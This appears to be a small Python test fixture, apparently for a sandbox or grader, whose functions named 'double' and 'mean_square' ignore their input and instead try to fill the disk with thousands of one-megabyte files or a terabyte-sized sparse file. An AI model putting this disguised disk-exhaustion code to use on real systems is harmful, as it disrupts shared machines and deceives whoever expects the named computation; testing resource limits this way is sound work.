# tries: to fill the disk


def double(x):
    for number in range(10_000):
        with open(f"file{number}", "wb") as file:
            file.write(b"x" * 1_000_000)


def mean_square(x):
    with open("big", "wb") as file:
        file.seek(10**12)
        file.write(b"x")
